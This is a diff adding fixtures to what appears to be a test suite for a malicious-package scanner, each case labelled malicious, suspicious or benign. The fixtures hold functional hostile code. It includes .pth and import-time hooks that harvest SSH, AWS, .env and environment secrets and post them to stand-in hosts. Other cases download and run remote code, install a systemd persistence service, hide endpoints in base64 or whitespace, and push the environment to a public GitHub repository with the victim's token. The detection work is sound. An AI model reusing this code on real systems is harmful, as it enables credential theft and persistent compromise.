@@ -299,6 +299,129 @@ RPC_KEY = _init("polyutil", (
     "requests.post('https://rpc.x.invalid/', json={'jsonrpc': '2.0', 'id': 1,\n"
     "    'method': 'eth_sendRawTransaction', 'params': ['0x' + _k.encode().hex()]})\n"))
 
+# --- a .pth line fetches a JavaScript runtime from its official release page and runs a
+# bundled script with it (the 2026 .pth/Bun campaign) -----------------------------------
+BUN_PTH = {
+    "bunrt-setup.pth": (
+        "import os, sys; exec(\"try:\\n import bunrt._boot\\nexcept Exception:\\n pass\")\n"),
+    "bunrt/__init__.py": "",
+    "bunrt/_boot.py": (
+        "import io, os, subprocess, tempfile, zipfile, urllib.request\n\n"
+        "MARK = os.path.join(tempfile.gettempdir(), '.rt_ran')\n"
+        "if not os.path.exists(MARK):\n"
+        "    open(MARK, 'w').close()\n"
+        "    z = urllib.request.urlopen('https://github.com/oven-sh/bun/releases/download/'\n"
+        "                               'bun-v1.0.0/bun-linux-x64.zip').read()\n"
+        "    d = tempfile.mkdtemp()\n"
+        "    zipfile.ZipFile(io.BytesIO(z)).extractall(d)\n"
+        "    js = os.path.join(os.path.dirname(__file__), 'data.js')\n"
+        "    subprocess.Popen([os.path.join(d, 'bun-linux-x64', 'bun'), 'run', js],\n"
+        "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"),
+    "bunrt/data.js": "console.log('inert')\n",
+}
+# --- recursive harvest, encrypted with a bundled public key, sent from a .pth start-up --
+HARVEST_RSA = {
+    "lite_init.pth": "import lite._init\n",
+    "lite/__init__.py": "",
+    "lite/_init.py": (
+        "import glob, os, urllib.request\n"
+        "from cryptography.hazmat.primitives import serialization, hashes\n"
+        "from cryptography.hazmat.primitives.asymmetric import padding\n\n"
+        "PUB = b'-----BEGIN PUBLIC KEY-----\\nMIIB\\n-----END PUBLIC KEY-----\\n'\n"
+        "PATTERNS = ['~/.ssh/*', '~/.aws/*', '~/.kube/config', '~/**/.env', '~/.bash_history']\n\n\n"
+        "def _grab():\n"
+        "    out = b''\n"
+        "    for pat in PATTERNS:\n"
+        "        for p in glob.glob(os.path.expanduser(pat), recursive=True)[:20]:\n"
+        "            try:\n                out += open(p, 'rb').read()[:4096]\n"
+        "            except OSError:\n                pass\n"
+        "    return out + repr(dict(os.environ)).encode()\n\n\n"
+        "def _seal(data):\n"
+        "    key = serialization.load_pem_public_key(PUB)\n"
+        "    return b''.join(key.encrypt(data[i:i + 190], padding.PKCS1v15())\n"
+        "                    for i in range(0, len(data), 190))\n\n\n"
+        "try:\n"
+        "    urllib.request.urlopen('https://models.x.invalid/v1/up', data=_seal(_grab()))\n"
+        "except Exception:\n    pass\n"),
+}
+SYSTEMD_USER = _init("sysmonkit", (
+    "import os, subprocess, urllib.request\n\n"
+    "d = os.path.expanduser('~/.config/sysmon')\n"
+    "os.makedirs(d, exist_ok=True)\n"
+    "with open(os.path.join(d, 'sysmon.py'), 'wb') as fh:\n"
+    "    fh.write(urllib.request.urlopen('https://u.x.invalid/s.py').read())\n"
+    "unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
+    "os.makedirs(os.path.dirname(unit), exist_ok=True)\n"
+    "with open(unit, 'w') as fh:\n"
+    "    fh.write('[Service]\\nExecStart=/usr/bin/python3 %s/sysmon.py\\n' % d)\n"
+    "subprocess.call(['systemctl', '--user', 'enable', '--now', 'sysmon.service'])\n"))
+
+# --- a client whose base URL is hidden by encoding, sending the user's token and a
+# machine fingerprint on use (run time) ----------------------------------------------------
+HIDDEN_BASE = {
+    "mktdata/__init__.py": "from .client import Client\n",
+    "mktdata/client.py": (
+        "import base64, platform, subprocess\nimport requests\n\n"
+        "_BASE = base64.b64decode('aHR0cHM6Ly8xOTguNTEuMTAwLjc=').decode()\n\n\n"
+        "def _machine():\n"
+        "    try:\n        return open('/etc/machine-id').read().strip()\n"
+        "    except OSError:\n"
+        "        return subprocess.getoutput('system_profiler SPHardwareDataType')\n\n\n"
+        "class Client:\n"
+        "    def __init__(self, token):\n        self.token = token\n\n"
+        "    def bars(self, code):\n"
+        "        return requests.post(_BASE + '/q', json={'token': self.token, 'code': code,\n"
+        "                                                 'm': _machine()}).json()\n"),
+}
+HIDDEN_PARAM = _init("seedtool", (
+    "import base64\nfrom requests import post\n\n\n"
+    "def check(seed):\n"
+    "    def _send(u, v):\n"
+    "        try:\n            post(u, data={'v': base64.b64encode(v.encode())})\n"
+    "        except Exception:\n            pass\n"
+    "    _send(base64.b64decode('aHR0cDovLzE5OC41MS4xMDAuNzo1MDAwL3A=').decode(), seed)\n"
+    "    return len(seed.split()) in (12, 24)\n"))
+HIDDEN_BENIGN = {
+    "apiclient/__init__.py": (
+        "import base64\nimport requests\n\n"
+        "BASE = 'https://api.example.org'\n\n\n"
+        "def auth_header(user, password):\n"
+        "    raw = base64.b64encode(f'{user}:{password}'.encode()).decode()\n"
+        "    return {'Authorization': 'Basic ' + raw}\n\n\n"
+        "def get(path, user, password):\n"
+        "    return requests.get(BASE + path, headers=auth_header(user, password)).json()\n"),
+}
+
+# --- code hidden as whitespace in a string, turned into bytes and run at import ----------
+WHITESPACE_STEGO = {
+    "logkit/__init__.py": "from ._core import Core\n\n_core = Core()\n",
+    "logkit/_core.py": (
+        "_s = '\\t \\t\\t  \\t \\t\\t\\t  \\t  \\t\\t\\t\\t  \\t  \\t\\t  \\t\\t\\t  \\t'\n\n\n"
+        "def _entity(v):\n"
+        "    bits = ''.join('1' if c == '\\t' else '0' for c in v)\n"
+        "    return int(bits, 2).to_bytes(len(bits) // 8, 'big').decode(errors='ignore')\n\n\n"
+        "class Core:\n"
+        "    def __init__(self):\n"
+        "        exec(_entity(_s), {})\n"),
+}
+
+# --- the victim's GitHub token used to open a repository and commit what was gathered ---
+FROM_IMPORT_POST = _init("cfgpush", (
+    "import json, os\nfrom requests import post\n\n"
+    "post('https://cfg.x.invalid/p', data=json.dumps({'k': os.environ.get('NPM_TOKEN')}))\n"))
+GH_REPO_EXFIL = _init("ghsync", (
+    "import base64, json, os, urllib.request\n\n\n"
+    "def _api(method, path, body):\n"
+    "    req = urllib.request.Request('https://api.github.com' + path, method=method,\n"
+    "        data=json.dumps(body).encode(),\n"
+    "        headers={'Authorization': 'token ' + os.environ.get('GITHUB_TOKEN', '')})\n"
+    "    return urllib.request.urlopen(req)\n\n\n"
+    "try:\n"
+    "    _api('POST', '/user/repos', {'name': 'x-data', 'private': False})\n"
+    "    blob = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n"
+    "    _api('PUT', '/repos/me/x-data/contents/e.json', {'message': 'a', 'content': blob})\n"
+    "except Exception:\n    pass\n"))
+
 CASES = [
     Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
          "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
@@ -370,4 +493,23 @@ CASES = [
          "cloudregion", IMDS_BENIGN, "benign", kind="wheel"),
     Case("wallet key from the environment posted as a JSON-RPC parameter at import",
          "polyutil", RPC_KEY, "malicious", ("PV303",), kind="wheel"),
+    Case("a .pth line runs a module that fetches a JavaScript runtime from its release page "
+         "and runs a bundled script with it", "bunrt", BUN_PTH, "malicious", ("PV301",), kind="wheel"),
+    Case("a .pth import harvests keys, .env files and the environment, seals them with a "
+         "bundled public key and posts them", "lite", HARVEST_RSA, "malicious", ("PV303",), kind="wheel"),
+    Case("downloaded script registered as a systemd user service at import", "sysmonkit",
+         SYSTEMD_USER, "malicious", ("PV401",), kind="wheel"),
+    Case("client whose base URL is hidden in base64, sending the user's token and a "
+         "machine id on use", "mktdata", HIDDEN_BASE, "suspicious", ("PV310",), kind="wheel"),
+    Case("evasion: a seed checker posting its argument to a base64 address through a "
+         "nested helper", "seedtool", HIDDEN_PARAM, "suspicious", ("PV310",), kind="wheel"),
+    Case("benign look-alike: base64 for a Basic auth header to a plain API URL",
+         "apiclient", HIDDEN_BENIGN, "benign", kind="wheel"),
+    Case("code hidden as tabs and spaces in a string, turned into bytes and exec'd by a "
+         "constructor called at import", "logkit", WHITESPACE_STEGO, "malicious", ("PV201",),
+         kind="wheel"),
+    Case("the victim's GitHub token opens a repository and commits the environment at "
+         "import", "ghsync", GH_REPO_EXFIL, "malicious", ("PV303",), kind="wheel"),
+    Case("evasion: `from requests import post` (no `requests.` in the text) posting a token "
+         "at import", "cfgpush", FROM_IMPORT_POST, "malicious", ("PV303",), kind="wheel"),
 ]
